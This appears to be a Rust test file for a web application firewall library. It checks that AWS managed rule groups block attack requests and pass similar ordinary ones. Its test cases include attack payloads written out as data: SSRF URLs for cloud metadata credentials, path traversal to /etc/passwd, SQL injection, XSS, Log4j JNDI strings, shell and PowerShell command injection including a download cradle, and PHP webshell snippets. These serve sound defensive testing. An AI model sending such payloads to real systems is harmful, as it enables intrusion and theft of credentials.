//! AWS managed rule groups in a web ACL exported with `aws wafv2 get-web-acl`:
//! every rule of every provided group blocks what AWS documents it to block
//! and lets an ordinary request of the same shape through, and the group
//! options (`ExcludedRules`, `RuleActionOverrides`, `ScopeDownStatement`,
//! `OverrideAction`) behave as AWS documents them.

#![allow(clippy::unwrap_used)]

use std::sync::LazyLock;

use http::{Request, StatusCode};
use portcullis_waf::{AclSources, LoadError, WafLayer, WafOutcome};
use serde_json::{Value, json};

const EXPORTED: &str = include_str!("fixtures/managed_acl.json");
const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// The exported ACL as it is: every group blocks.
fn blocking() -> &'static WafLayer {
    static LAYER: LazyLock<WafLayer> = LazyLock::new(|| WafLayer::from_json(EXPORTED).unwrap());
    &LAYER
}

/// The same ACL with every group's `OverrideAction` set to Count, so that
/// every matching rule of every group is reported.
fn counting() -> &'static WafLayer {
    static LAYER: LazyLock<WafLayer> = LazyLock::new(|| {
        let mut acl: Value = serde_json::from_str(EXPORTED).unwrap();
        for rule in acl["WebACL"]["Rules"].as_array_mut().unwrap() {
            rule["OverrideAction"] = json!({"Count": {}});
        }
        WafLayer::from_json(&acl.to_string()).unwrap()
    });
    &LAYER
}

/// A request a browser-based API client would send, with its usual headers.
struct Req {
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: String,
}

fn get(uri: &str) -> Req {
    Req {
        method: "GET",
        uri: uri.to_owned(),
        headers: vec![
            ("host".into(), "api.example.com".into()),
            ("user-agent".into(), UA.into()),
            ("accept".into(), "application/json".into()),
        ],
        body: String::new(),
    }
}

fn post(uri: &str, body: &str) -> Req {
    let mut req = get(uri);
    req.method = "POST";
    req.body = body.to_owned();
    req.headers
        .push(("content-type".into(), "application/json".into()));
    req
}

impl Req {
    fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.retain(|(n, _)| n != name);
        self.headers.push((name.into(), value.into()));
        self
    }
    fn without(mut self, name: &str) -> Self {
        self.headers.retain(|(n, _)| n != name);
        self
    }
    fn method(mut self, method: &'static str) -> Self {
        self.method = method;
        self
    }
    fn build(&self) -> Request<Vec<u8>> {
        let mut builder = Request::builder()
            .method(self.method)
            .uri(self.uri.as_str());
        for (name, value) in &self.headers {
            builder = builder.header(name.as_str(), value.as_str());
        }
        builder.body(self.body.as_bytes().to_vec()).unwrap()
    }
}

fn matched(outcome: &WafOutcome, group: &str, rule: &str) -> bool {
    let full = format!("AWS-{group}/{rule}");
    outcome.matched_rules().any(|r| r == full)
}

/// `rule` of `group` matches `attack`, adds `label`, and the exported ACL
/// blocks it; it does not match `ordinary`.
fn check(group: &str, rule: &str, label: &str, attack: Req, ordinary: Req) {
    let counted = counting().evaluate(&attack.build());
    assert!(
        matched(&counted, group, rule),
        "{rule} missed {} {} (matched: {:?})",
        attack.method,
        attack.uri,
        counted.matched_rules().collect::<Vec<_>>()
    );
    assert!(
        counted.labels().iter().any(|l| l == label),
        "{rule}: no label {label} in {:?}",
        counted.labels()
    );
    let blocked = blocking().evaluate(&attack.build());
    assert_eq!(
        blocked.block_status(),
        Some(StatusCode::FORBIDDEN),
        "{rule}"
    );
    let ordinary_outcome = counting().evaluate(&ordinary.build());
    assert!(
        !matched(&ordinary_outcome, group, rule),
        "{rule} flagged an ordinary {} {}",
        ordinary.method,
        ordinary.uri
    );
}

macro_rules! rule_tests {
    ($group:literal, $ns:literal: $( $test:ident: $rule:literal, $label:literal, $attack:expr, $ordinary:expr; )*) => {
        $(
            #[test]
            fn $test() {
                check($group, $rule, concat!("awswaf:managed:aws:", $ns, ":", $label), $attack, $ordinary);
            }
        )*
    };
}

const CRS: &str = "AWSManagedRulesCommonRuleSet";

rule_tests! { "AWSManagedRulesCommonRuleSet", "core-rule-set":
    crs_no_user_agent: "NoUserAgent_HEADER", "NoUserAgent_Header",
        get("/loyalty/C-1001").without("user-agent"), get("/loyalty/C-1001");
    crs_bad_bots: "UserAgent_BadBots_HEADER", "BadBots_Header",
        get("/").header("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
        get("/").header("user-agent", "curl/8.5.0");
    crs_size_query: "SizeRestrictions_QUERYSTRING", "SizeRestrictions_QueryString",
        get(&format!("/search?q={}", "a".repeat(2100))), get(&format!("/search?q={}", "a".repeat(2000)));
    crs_size_cookie: "SizeRestrictions_Cookie_HEADER", "SizeRestrictions_Cookie_Header",
        get("/").header("cookie", &format!("session={}", "x".repeat(10_300))),
        get("/").header("cookie", &format!("session={}", "x".repeat(4000)));
    crs_size_body: "SizeRestrictions_BODY", "SizeRestrictions_Body",
        post("/orders", &format!("{{\"note\":\"{}\"}}", "n".repeat(8300))),
        post("/orders", &format!("{{\"note\":\"{}\"}}", "n".repeat(8000)));
    crs_size_path: "SizeRestrictions_URIPATH", "SizeRestrictions_URIPath",
        get(&format!("/files/{}", "p".repeat(1100))), get(&format!("/files/{}", "p".repeat(900)));
    crs_ssrf_body: "EC2MetaDataSSRF_BODY", "EC2MetaDataSSRF_Body",
        post("/webhooks", r#"{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#),
        post("/webhooks", r#"{"url":"https://hooks.example.com/latest"}"#);
    crs_ssrf_cookie: "EC2MetaDataSSRF_COOKIE", "EC2MetaDataSSRF_Cookie",
        get("/").header("cookie", "next=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data"),
        get("/").header("cookie", "next=%2Faccount%2Fsettings");
    crs_ssrf_path: "EC2MetaDataSSRF_URIPATH", "EC2MetaDataSSRF_URIPath",
        get("/proxy/169.254.169.254/latest/meta-data/"), get("/proxy/api.example.com/v1/items");
    crs_ssrf_query: "EC2MetaDataSSRF_QUERYARGUMENTS", "EC2MetaDataSSRF_QueryArguments",
        get("/fetch?url=http://169.254.169.254/latest/api/token"), get("/fetch?url=https://example.com/feed.xml");
    crs_lfi_query: "GenericLFI_QUERYARGUMENTS", "GenericLFI_QueryArguments",
        get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd"), get("/download?file=reports%2F2024-q3.pdf");
    crs_lfi_path: "GenericLFI_URIPATH", "GenericLFI_URIPath",
        get("/static/..%2f..%2f..%2fetc/passwd"), get("/static/css/site.v2.css");
    crs_lfi_body: "GenericLFI_BODY", "GenericLFI_Body",
        post("/render", r#"{"template":"../../../../etc/shadow"}"#), post("/render", r#"{"template":"emails/welcome.html"}"#);
    crs_ext_path: "RestrictedExtensions_URIPATH", "RestrictedExtensions_URIPath",
        get("/app/logs/error.log"), get("/app/catalog/logo.png");
    crs_ext_query: "RestrictedExtensions_QUERYARGUMENTS", "RestrictedExtensions_QueryArguments",
        get("/view?page=config.ini"), get("/view?page=pricing.html");
    crs_rfi_query: "GenericRFI_QUERYARGUMENTS", "GenericRFI_QueryArguments",
        get("/include?page=http://203.0.113.9/shell.txt"), get("/include?page=https://docs.example.com/shell.txt");
    crs_rfi_body: "GenericRFI_BODY", "GenericRFI_Body",
        post("/import", r#"{"source":"ftp://198.51.100.23/payload.php"}"#), post("/import", r#"{"source":"ftp://files.example.com/catalog.csv"}"#);
    crs_rfi_path: "GenericRFI_URIPATH", "GenericRFI_URIPath",
        get("/redirect/http://192.0.2.44/x"), get("/redirect/account/home");
    crs_xss_cookie: "CrossSiteScripting_COOKIE", "CrossSiteScripting_Cookie",
        get("/").header("cookie", "theme=%3Cscript%3Ealert(%22hello%22)%3C%2Fscript%3E"), get("/").header("cookie", "theme=dark; lang=en-GB");
    crs_xss_query: "CrossSiteScripting_QUERYARGUMENTS", "CrossSiteScripting_QueryArguments",
        get("/search?q=%3Cscript%3Ealert(%22hello%22)%3C/script%3E"), get("/search?q=fish+%26+chips+%3C+%C2%A310");
    crs_xss_body: "CrossSiteScripting_BODY", "CrossSiteScripting_Body",
        post("/comments", r#"{"text":"<img src=x onerror=alert(document.cookie)>"}"#), post("/comments", r#"{"text":"Great flight, 5 > 4 stars!"}"#);
    crs_xss_path: "CrossSiteScripting_URIPATH", "CrossSiteScripting_URIPath",
        get("/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E"), get("/profile/jane.doe");
}

rule_tests! { "AWSManagedRulesAdminProtectionRuleSet", "admin-protection":
    admin_path: "AdminProtection_URIPATH", "AdminProtection_URIPath",
        get("/sqlmanager/index.php"), get("/loyalty/administration-fees");
}

rule_tests! { "AWSManagedRulesKnownBadInputsRuleSet", "known-bad-inputs":
    kbi_java_header: "JavaDeserializationRCE_HEADER", "JavaDeserializationRCE_Header",
        get("/").header("x-api-version", "(java.lang.Runtime).getRuntime().exec(\"whoami\")"), get("/").header("x-api-version", "2024-06-01");
    kbi_java_body: "JavaDeserializationRCE_BODY", "JavaDeserializationRCE_Body",
        post("/functionRouter", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), post("/functionRouter", r#"{"class":"economy"}"#);
    kbi_java_path: "JavaDeserializationRCE_URIPATH", "JavaDeserializationRCE_URIPath",
        get("/api/T(java.lang.Runtime).getRuntime().exec('id')"), get("/api/java/tutorials");
    kbi_java_query: "JavaDeserializationRCE_QUERYSTRING", "JavaDeserializationRCE_QueryString",
        get("/?x=%28java.lang.Runtime%29.getRuntime%28%29.exec%28%22whoami%22%29"), get("/?lang=java&level=beginner");
    kbi_localhost: "Host_localhost_HEADER", "Host_Localhost_Header",
        get("/").header("host", "localhost"), get("/").header("host", "localhost.example.com");
    kbi_propfind: "PROPFIND_METHOD", "Propfind_Method",
        get("/").method("PROPFIND"), get("/").method("OPTIONS");
    kbi_exploitable_paths: "ExploitablePaths_URIPATH", "ExploitablePaths_URIPath",
        get("/app/WEB-INF/web.xml"), get("/app/web-info/about");
    kbi_log4j_header: "Log4JRCE_HEADER", "Log4JRCE_Header",
        get("/").header("user-agent", "${jndi:ldap://example.com/a}"), get("/").header("x-template", "${name} is ${age}");
    kbi_log4j_query: "Log4JRCE_QUERYSTRING", "Log4JRCE_QueryString",
        get("/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2Fexample.com%2Fx%7D"), get("/?price=%2410&q=jndi");
    kbi_log4j_body: "Log4JRCE_BODY", "Log4JRCE_Body",
        post("/login", r#"{"user":"${jndi:dns://example.com/q}"}"#), post("/login", r#"{"user":"jndi-fan"}"#);
    kbi_log4j_path: "Log4JRCE_URIPATH", "Log4JRCE_URIPath",
        get("/$%7Bjndi:ldap://example.com/a%7D"), get("/docs/jndi/overview");
    kbi_react: "ReactJSRCE_BODY", "ReactJSRCE_Body",
        post("/", r#"{"then":"$1:__proto__:then","status":"resolved_model"}"#), post("/", r#"{"then":"later","status":"resolved"}"#);
}

rule_tests! { "AWSManagedRulesSQLiRuleSet", "sql-database":
    sqli_query: "SQLi_QUERYARGUMENTS", "SQLi_QueryArguments",
        get("/items?id=1%27%20OR%20%271%27%3D%271"), get("/items?id=1001&sort=name");
    sqli_ext_query: "SQLiExtendedPatterns_QUERYARGUMENTS", "SQLiExtendedPatterns_QueryArguments",
        get("/items?id=1%20AND%20SLEEP(5)"), get("/items?q=sleep+apnea+pillow");
    sqli_body: "SQLi_BODY", "SQLi_Body",
        post("/login", "user=admin%27--&pass=x"), post("/login", "user=o%27brien&pass=correct-horse");
    sqli_ext_body: "SQLiExtendedPatterns_BODY", "SQLiExtendedPatterns_Body",
        post("/report", r#"{"filter":"x' UNION ALL SELECT username, password FROM users"}"#), post("/report", r#"{"filter":"union members select a plan"}"#);
    sqli_cookie: "SQLi_COOKIE", "SQLi_Cookie",
        get("/").header("cookie", "uid=1%27%20or%201%3D1--"), get("/").header("cookie", "uid=8f14e45f; region=eu");
    sqli_path: "SQLi_URIPATH", "SQLi_URIPath",
        get("/items/1%27%20or%20%271%27%3D%271"), get("/items/1001/reviews");
}

rule_tests! { "AWSManagedRulesLinuxRuleSet", "linux-os":
    linux_path: "LFI_URIPATH", "LFI_URIPath",
        get("/files/proc/self/environ"), get("/files/procurement/invoices");
    linux_query: "LFI_QUERYSTRING", "LFI_QueryString",
        get("/view?file=/proc/version"), get("/view?file=/reports/version");
    linux_header: "LFI_HEADER", "LFI_Header",
        get("/").header("referer", "file:///etc/passwd"), get("/").header("referer", "https://www.example.com/etc/news");
}

rule_tests! { "AWSManagedRulesUnixRuleSet", "posix-os":
    posix_query: "UNIXShellCommandsVariables_QUERYARGUMENTS", "UNIXShellCommandsVariables_QUERYARGUMENTS",
        get("/ping?host=127.0.0.1%3Becho%20%24HOME"), get("/ping?host=api.example.com");
    posix_body: "UNIXShellCommandsVariables_BODY", "UNIXShellCommandsVariables_BODY",
        post("/convert", r#"{"name":"a.png; cat /etc/passwd"}"#), post("/convert", r#"{"name":"cat photo.png"}"#);
}

rule_tests! { "AWSManagedRulesWindowsRuleSet", "windows-os":
    windows_cookie: "WindowsShellCommands_COOKIE", "WindowsShellCommands_Cookie",
        get("/").header("cookie", "host=x%7C%7Cnslookup%20example.com"), get("/").header("cookie", "host=example.com");
    windows_query: "WindowsShellCommands_QUERYARGUMENTS", "WindowsShellCommands_QueryArguments",
        get("/ping?host=x%26%26cmd%20/c%20whoami"), get("/ping?host=cmd.example.com");
    windows_body: "WindowsShellCommands_BODY", "WindowsShellCommands_Body",
        post("/run", r#"{"arg":"1;cmd /c type C:\\boot.ini"}"#), post("/run", r#"{"arg":"press cmd and c to copy"}"#);
    powershell_cookie: "PowerShellCommands_COOKIE", "PowerShellCommands_Cookie",
        get("/").header("cookie", "p=Invoke-Expression%20(whoami)"), get("/").header("cookie", "p=invoice-expression-2024");
    powershell_query: "PowerShellCommands_QUERYARGUMENTS", "PowerShellCommands_QueryArguments",
        get("/?c=IEX(New-Object%20Net.WebClient).DownloadString('http://example.com/a')"), get("/?c=new+object+storage");
    powershell_body: "PowerShellCommands_BODY", "PowerShellCommands_Body",
        post("/", r#"{"c":"powershell -nop -w hidden -enc SQBFAFgA"}"#), post("/", r#"{"c":"learning powershell basics"}"#);
}

rule_tests! { "AWSManagedRulesPHPRuleSet", "php-app":
    php_header: "PHPHighRiskMethodsVariables_HEADER", "PHPHighRiskMethodsVariables_Header",
        get("/").header("x-forwarded-host", "<?php system($_GET['c']); ?>"), get("/").header("x-forwarded-host", "www.example.com");
    php_query: "PHPHighRiskMethodsVariables_QUERYSTRING", "PHPHighRiskMethodsVariables_QueryString",
        get("/?cmd=fsockopen(%22example.com%22,80)"), get("/?topic=socket+programming");
    php_body: "PHPHighRiskMethodsVariables_BODY", "PHPHighRiskMethodsVariables_Body",
        post("/upload", "data=%3C%3Fphp%20echo%20shell_exec(%24_GET%5B'c'%5D)%3B"), post("/upload", "data=a%20shell%20company");
}

rule_tests! { "AWSManagedRulesWordPressRuleSet", "wordpress-app":
    wp_commands: "WordPressExploitableCommands_QUERYSTRING", "WordPressExploitableCommands_QUERYSTRING",
        get("/wp-admin/admin.php?page=wordpress-reset&do-reset-wordpress=1"), get("/blog/?p=42&reset=false");
    wp_paths: "WordPressExploitablePaths_URIPATH", "WordPressExploitablePaths_URIPATH",
        get("/xmlrpc.php"), get("/blog/2024/05/xmlrpc-explained");
}

/// Every rule of every provided group has a test above: a rule added to a
/// group without one fails here.
#[test]
fn every_provided_rule_is_tested() {
    let source = include_str!("managed.rs");
    for group in portcullis_waf::managed::available() {
        let rules = portcullis_waf::managed::rule_group(group).unwrap().rules;
        assert!(!rules.is_empty(), "{group}");
        for rule in rules {
            assert!(
                source.contains(&format!("\"{}\", \"", rule.name)),
                "{group}/{} has no test",
                rule.name
            );
            assert_eq!(rule.rule_labels.len(), 1, "{}", rule.name);
        }
    }
}

#[test]
fn an_ordinary_api_request_passes_every_group() {
    let layer = counting();
    for req in [
        get("/loyalty/C-1001/get?customer=C-1001&fields=points"),
        get("/search?q=o%27brien+%26+sons&page=2"),
        post(
            "/orders",
            r#"{"items":[{"sku":"A-1","qty":2}],"note":"Leave at door, ring bell"}"#,
        ),
        post(
            "/login",
            "username=jane.doe%40example.com&password=S3cure%21pass",
        ),
    ] {
        let outcome = layer.evaluate(&req.build());
        assert_eq!(
            outcome.matched_rules().count(),
            0,
            "{} {:?}",
            req.uri,
            outcome.matched_rules().collect::<Vec<_>>()
        );
    }
}

fn acl_with(statement: Value, override_action: Value) -> String {
    json!({"WebACL": {"Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": "AWS-CRS", "Priority": 0, "OverrideAction": override_action,
         "Statement": {"ManagedRuleGroupStatement": statement},
         "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "crs"}},
        {"Name": "block-size-body-elsewhere", "Priority": 1, "Action": {"Block": {"CustomResponse": {"ResponseCode": 413}}},
         "Statement": {"LabelMatchStatement": {"Scope": "LABEL", "Key": "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"}},
         "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "b"}}
    ]}, "LockToken": "x"})
    .to_string()
}

#[test]
fn the_outcome_names_the_group_and_rule_as_aws_logs_do() {
    let layer = WafLayer::from_json(&acl_with(
        json!({"VendorName": "AWS", "Name": CRS}),
        json!({"None": {}}),
    ))
    .unwrap();
    let outcome = layer.evaluate(&get("/").without("user-agent").build());
    assert_eq!(
        outcome.terminating_rule(),
        Some("AWS-CRS/NoUserAgent_HEADER")
    );
    let groups = outcome.rule_groups();
    assert_eq!(groups.len(), 1);
    assert_eq!(groups[0].group_id(), "AWS#AWSManagedRulesCommonRuleSet");
    assert_eq!(groups[0].web_acl_rule(), "AWS-CRS");
    assert_eq!(groups[0].terminating_rule(), Some("NoUserAgent_HEADER"));
    assert_eq!(groups[0].non_terminating_rules().count(), 0);
}

#[test]
fn excluded_rules_count_and_label_and_a_later_rule_can_act_on_the_label() {
    let statement = json!({"VendorName": "AWS", "Name": CRS, "Version": "Version_1.12",
        "ExcludedRules": [{"Name": "SizeRestrictions_BODY"}]});
    let layer = WafLayer::from_json(&acl_with(statement, json!({"None": {}}))).unwrap();
    let big = post("/upload", &"x".repeat(9000));
    let outcome = layer.evaluate(&big.build());
    // AWS's documented pattern: the excluded rule only counts and labels,
    // and a later rule of one's own blocks on the label where it wants to.
    assert_eq!(
        outcome.terminating_rule(),
        Some("block-size-body-elsewhere")
    );
    assert_eq!(outcome.block_status(), Some(StatusCode::PAYLOAD_TOO_LARGE));
    assert_eq!(
        outcome.rule_groups()[0]
            .non_terminating_rules()
            .collect::<Vec<_>>(),
        ["SizeRestrictions_BODY"]
    );
    // Other rules of the group still block.
    let no_ua = layer.evaluate(&get("/").without("user-agent").build());
    assert_eq!(no_ua.terminating_rule(), Some("AWS-CRS/NoUserAgent_HEADER"));
}

#[test]
fn rule_action_overrides_replace_one_rules_action() {
    let statement = json!({"VendorName": "AWS", "Name": CRS, "RuleActionOverrides": [
        {"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}},
        {"Name": "UserAgent_BadBots_HEADER", "ActionToUse": {"Block": {"CustomResponse": {"ResponseCode": 429}}}}]});
    let layer = WafLayer::from_json(&acl_with(statement, json!({"None": {}}))).unwrap();
    let no_ua = layer.evaluate(&get("/").without("user-agent").build());
    assert!(!no_ua.is_blocked());
    assert!(
        no_ua
            .labels()
            .iter()
            .any(|l| l == "awswaf:managed:aws:core-rule-set:NoUserAgent_Header")
    );
    let bot = layer.evaluate(&get("/").header("user-agent", "sqlmap/1.8").build());
    assert_eq!(bot.block_status(), Some(StatusCode::TOO_MANY_REQUESTS));
}

#[test]
fn a_scope_down_statement_limits_the_group_to_the_requests_it_matches() {
    let statement = json!({"VendorName": "AWS", "Name": CRS, "ScopeDownStatement": {"ByteMatchStatement": {
        "SearchString": "/api/", "PositionalConstraint": "STARTS_WITH", "FieldToMatch": {"UriPath": {}},
        "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}});
    let layer = WafLayer::from_json(&acl_with(statement, json!({"None": {}}))).unwrap();
    let inside = layer.evaluate(&get("/api/items").without("user-agent").build());
    assert_eq!(
        inside.terminating_rule(),
        Some("AWS-CRS/NoUserAgent_HEADER")
    );
    let outside = layer.evaluate(&get("/health").without("user-agent").build());
    assert!(!outside.is_blocked());
    assert_eq!(outside.matched_rules().count(), 0);
    assert!(outside.labels().is_empty());
}

#[test]
fn override_action_count_counts_every_rule_and_labels() {
    let layer = WafLayer::from_json(&acl_with(
        json!({"VendorName": "AWS", "Name": CRS}),
        json!({"Count": {}}),
    ))
    .unwrap();
    let req = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E").without("user-agent");
    let outcome = layer.evaluate(&req.build());
    assert!(!outcome.is_blocked());
    assert_eq!(
        outcome.rule_groups()[0]
            .non_terminating_rules()
            .collect::<Vec<_>>(),
        ["NoUserAgent_HEADER", "CrossSiteScripting_QUERYARGUMENTS"]
    );
    assert!(
        outcome
            .labels()
            .iter()
            .any(|l| l == "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments")
    );
}

#[test]
fn a_managed_group_rule_needs_override_action_not_action() {
    let acl = json!({"Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": "crs", "Priority": 0, "Action": {"Block": {}},
         "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": CRS}}}]});
    let err = AclSources::from_json(&acl.to_string())
        .unwrap()
        .compile()
        .unwrap_err();
    assert!(err.to_string().contains("Rules[0].OverrideAction"), "{err}");
}

#[test]
fn groups_that_need_aws_data_are_refused_with_their_path_unless_asked() {
    for name in portcullis_waf::managed::PRIVATE_DATA_GROUPS {
        let acl = json!({"WebACL": {"Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": [
            {"Name": "crs", "Priority": 0, "OverrideAction": {"None": {}},
             "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": CRS}}},
            {"Name": "private", "Priority": 1, "OverrideAction": {"None": {}},
             "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name,
                "ManagedRuleGroupConfigs": [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}]}}}]}})
        .to_string();
        let err = AclSources::from_json(&acl).unwrap().compile().unwrap_err();
        let LoadError::Config(config) = &err else {
            panic!("{name}: expected a configuration error, got {err:?}");
        };
        assert!(
            config.message().starts_with(&format!(
                "AWS managed rule group `{name}` needs data only AWS has"
            )),
            "{err}"
        );
        assert!(
            err.to_string()
                .contains("Rules[1].Statement.ManagedRuleGroupStatement.Name"),
            "{err}"
        );
        let loaded = AclSources::from_json(&acl)
            .unwrap()
            .with_unavailable_managed_groups_never_matching()
            .compile()
            .unwrap();
        let layer = WafLayer::new(loaded);
        let outcome = layer.evaluate(&get("/").build());
        assert_eq!(outcome.matched_rules().count(), 0, "{name} never matches");
    }
}

#[test]
fn ip_list_groups_take_a_list_of_ones_own() {
    let acl = json!({"Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": "AWS-AWSManagedRulesAnonymousIpList", "Priority": 0, "OverrideAction": {"None": {}},
         "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAnonymousIpList"}}}]})
    .to_string();
    let layer = WafLayer::new(
        AclSources::from_json(&acl)
            .unwrap()
            .with_managed_ip_list("AWSManagedRulesAnonymousIpList", ["198.51.100.0/24"])
            .unwrap()
            .compile()
            .unwrap(),
    );
    let from = |ip: &str| {
        let mut request = get("/").build();
        request
            .extensions_mut()
            .insert(portcullis_core::client_ip::PeerAddr(
                std::net::SocketAddr::new(ip.parse().unwrap(), 443),
            ));
        layer.evaluate(&request)
    };
    let listed = from("198.51.100.7");
    assert_eq!(
        listed.terminating_rule(),
        Some("AWS-AWSManagedRulesAnonymousIpList/AnonymousIPList")
    );
    assert!(
        listed
            .labels()
            .iter()
            .any(|l| l == "awswaf:managed:aws:anonymous-ip-list:AnonymousIPList")
    );
    assert!(!from("203.0.113.7").is_blocked());
    assert!(
        AclSources::from_json(&acl)
            .unwrap()
            .with_managed_ip_list(CRS, ["198.51.100.0/24"])
            .is_err()
    );
}

#[test]
fn unknown_groups_and_other_vendors_are_refused_with_their_path() {
    for (statement, path) in [
        (
            json!({"VendorName": "AWS", "Name": "AWSManagedRulesNoSuchRuleSet"}),
            "ManagedRuleGroupStatement.Name",
        ),
        (
            json!({"VendorName": "F5", "Name": "OWASP_Managed"}),
            "ManagedRuleGroupStatement.VendorName",
        ),
    ] {
        let err = AclSources::from_json(&acl_with(statement, json!({"None": {}})))
            .unwrap()
            .compile()
            .unwrap_err();
        assert!(err.to_string().contains(path), "{err}");
    }
}

#[test]
fn a_managed_group_cannot_be_nested() {
    let acl = json!({"Name": "acl", "DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": "r", "Priority": 0, "Action": {"Block": {}},
         "Statement": {"NotStatement": {"Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": CRS}}}}}]});
    let err = AclSources::from_json(&acl.to_string())
        .unwrap()
        .compile()
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("NotStatement.Statement.ManagedRuleGroupStatement"),
        "{err}"
    );
}
